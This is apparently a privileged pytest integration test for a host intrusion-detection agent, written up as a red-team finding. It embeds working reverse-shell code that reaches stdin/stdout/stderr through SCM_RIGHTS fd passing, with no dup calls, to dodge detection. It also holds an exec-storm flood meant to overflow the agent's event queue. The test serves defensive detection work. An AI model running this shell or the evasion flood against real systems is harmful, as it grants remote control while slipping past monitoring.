"""A reverse shell whose only trace is its proc.exec, behind its own tenant's exec storm
(red-team wip-red1, finding 1). The socket reaches fds 0-2 without dup/dup2/dup3/fcntl:
passed to itself over a unix socketpair (SCM_RIGHTS, three copies in one message) after
closing 0-2, so the kernel hands them out as the lowest free fds. No proc.stdio_dup, no
proc.stdio, so breach.reverse_shell on the shell's exec is the whole detection -- and
that exec is the kind any tenant floods for free (`while :; do sh -c :; done`).

Real kernel events (proc.bpf.o) through the agent's queue (agent.sources.queue,
agent.detect.triage) with its consumer held back until the storm has filled it: the
storm's own execs are dropped, the shell's exec takes the urgent lane and is detected."""
from __future__ import annotations

import asyncio
import threading
import time
from dataclasses import replace

import pytest

from agent.config import Metrics
from agent.daemon import Agent
from agent.detect import triage
from agent.enforce.base import DryRunEnforcer
from agent.report.reporting import Reporting
from agent.respond.engine import Responder
from agent.state.store import Store
from swarmlab.breachlab import python_wiring, reverse_shell
from swarmlab.lab import Lab
from tests.integration.test_proc_probe import probe, wait_for  # noqa: F401 (fixture)
from tests.integration.test_reverse_shells import cfg, detector, events_of, fakes, fired  # noqa: F401

pytestmark = pytest.mark.privileged

NO_DUP = ("import os, socket, sys\n"
          "s = socket.create_connection((sys.argv[1], int(sys.argv[2])))\n"
          "a, b = socket.socketpair()\n"
          "socket.send_fds(a, [b'x'], [s.fileno()] * 3)\n"
          "for fd in (0, 1, 2): os.close(fd)\n"
          "_, fds, _, _ = socket.recv_fds(b, 1, 3)\n"
          "assert fds == [0, 1, 2], fds\n"
          "os.execv('/bin/sh', ['sh', '-i'])\n")
STORM_EXECS = 1500          # past the queue's 1024 before the shell comes
STORM = ("import subprocess\n"
         "subprocess.run(['/bin/sh', '-c', 'i=0; while [ $i -lt %d ]; do /bin/sh -c :; "
         "i=$((i+1)); done'], check=True)\n" % STORM_EXECS)


@pytest.fixture(scope="module")
def lab():
    with Lab() as lab:
        yield lab


def test_a_reverse_shell_without_dup_is_seen_only_as_an_exec(probe, detector, lab):
    with reverse_shell(lab, *python_wiring(NO_DUP)) as (cg, _):
        execs = events_of(probe, cg, "proc.exec", lambda e: e.fields["argv"] == ["sh", "-i"])
        dups = events_of(probe, cg, "proc.stdio_dup", timeout_s=1.0)
        stdios = events_of(probe, cg, "proc.stdio", timeout_s=0.5)
    assert fired(detector, execs) == {"breach.reverse_shell@2"}
    # Nothing else would reveal it if that one event were dropped.
    assert dups == [] and stdios == []
    assert triage.urgent(detector, execs[0])


def test_its_own_exec_storm_does_not_hide_it(probe, cfg, lab, tmp_path):
    polled: list = []
    stop = threading.Event()

    def poller() -> None:       # the ring buffer (1 MiB) holds fewer than the storm's events
        while not stop.is_set():
            polled.extend(probe.poll())
            time.sleep(0.005)

    losses = probe.losses()
    thread = threading.Thread(target=poller)
    thread.start()
    try:
        with reverse_shell(lab, *python_wiring(STORM + NO_DUP)) as (cg, _):
            # its own shell's exec, by cgroup: the probe sees the whole host, where another
            # test (another xdist worker) may run a reverse shell `sh -i` at the same time
            deadline = time.monotonic() + 10
            while time.monotonic() < deadline and not any(
                    e.kind == "proc.exec" and e.fields["argv"] == ["sh", "-i"]
                    and e.fields.get("cgroup") == cg for e in list(polled)):
                time.sleep(0.05)
    finally:
        stop.set()
        thread.join()
    assert probe.losses() == losses, "the kernel ring buffer lost events (a busy host?)"
    mine = [e for e in polled if e.fields.get("cgroup") == cg]
    assert any(e.kind == "proc.exec" and e.fields["argv"] == ["sh", "-i"] for e in mine), \
        "the shell's exec was not polled within 10 s"
    storm = [e for e in mine
             if e.kind == "proc.exec" and e.fields["argv"] == ["/bin/sh", "-c", ":"]]
    assert len(storm) >= STORM_EXECS - 10, len(storm)

    agent = Agent(replace(cfg, state_dir=str(tmp_path), metrics=Metrics(listen=None),
                          probes=replace(cfg.probes, queue_events=1024)))
    agent.store = Store(agent.cfg.db_path)
    agent.responder = Responder(agent.cfg, agent.store, DryRunEnforcer())
    agent.reporting = Reporting(agent.cfg, agent.store, agent.responder.observers,
                                status=dict, losses=lambda: 0, queue=agent.queue_status)
    try:
        for event in mine:          # in kernel order; the consumer is behind the whole storm
            agent.enqueue(event)
        assert agent.queue.dropped["proc.exec"] > 0 and not agent.queue.urgent.dropped

        async def consume() -> None:
            task = asyncio.create_task(agent.consume())
            while len(agent.queue):
                await asyncio.sleep(0.01)
            task.cancel()
        asyncio.run(consume())
        rules = {r for i in agent.store.incidents() for r in i.rules}
        assert "breach.reverse_shell@2" in rules, (rules, dict(agent.queue.dropped))
    finally:
        agent.reporting.close()
        agent.store.close()
